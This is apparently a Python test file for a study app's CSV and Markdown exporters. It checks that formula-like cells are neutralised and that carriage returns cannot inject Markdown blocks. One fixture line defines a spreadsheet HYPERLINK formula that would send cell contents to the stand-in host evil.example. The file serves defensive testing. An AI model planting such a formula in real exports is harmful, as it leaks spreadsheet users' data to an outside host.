"""Exports carry card text as text: a CSV cell never becomes a spreadsheet formula, and a
carriage return never starts a Markdown block."""

from __future__ import annotations

import csv
import io

from markdown_it import MarkdownIt

from studykit.deck.export.csv import to_csv
from studykit.deck.export.markdown import to_markdown
from studykit.deck.model import Deck

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1)'


def deck(**card) -> Deck:
    return Deck.model_validate(
        {
            "id": "inj",
            "title": "Injection",
            "description": "d",
            "topics": [{"id": "inj-t", "title": "T"}],
            "cards": [{"id": "inj-1", "topic": "inj-t", **card}],
        }
    )


def csv_row(text: str) -> dict[str, str]:
    (row,) = list(csv.DictReader(io.StringIO(text)))
    return row


def test_csv_cells_that_would_be_formulas_get_a_quote_in_front():
    flash = deck(kind="flashcard", front=FORMULA, back="+1+1", explanation="@SUM(A1:A9)")
    row = csv_row(to_csv([flash]))
    assert row["question"] == "'" + FORMULA
    assert row["answer"] == "'+1+1"
    assert row["explanation"] == "'@SUM(A1:A9)"
    short = deck(kind="short", question="What is 2 - 7?", answers=["-5", "minus five"], tags=["-x"])
    row = csv_row(to_csv([short]))
    assert row["answer"] == "'-5\nminus five"
    assert row["tags"] == "'-x"
    assert row["question"] == "What is 2 - 7?"  # only a formula-like start is touched
    assert row["id"] == "inj-1" and row["kind"] == "short"


def test_csv_cells_starting_with_a_tab_or_carriage_return_are_quoted_too():
    card = deck(kind="flashcard", front="Q", back="B", explanation="E")
    card.cards[0].explanation = "\tcmd"  # the model trims these, so set them directly
    card.cards[0].back = "\r=1+1"
    row = csv_row(to_csv([card]))
    assert row["explanation"] == "'\tcmd"
    assert row["answer"].startswith("'")


def test_markdown_turns_every_line_end_into_a_newline_before_escaping():
    card = deck(kind="flashcard", front="What?\r# INJECTED HEADING", back="a\r\n- item\rb")
    out = to_markdown([card])
    assert "\r" not in out
    tokens = MarkdownIt("commonmark").parse(out)
    headings = [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"]
    assert not any("INJECTED" in h for h in headings), headings
    # "- item" on a line of its own is a list in card text's Markdown (deck/markup.py): the
    # one list there is, and a carriage return made no other block.
    assert sum(t.type == "bullet_list_open" for t in tokens) == 1
    assert "What?\\\n\\# INJECTED HEADING" in out
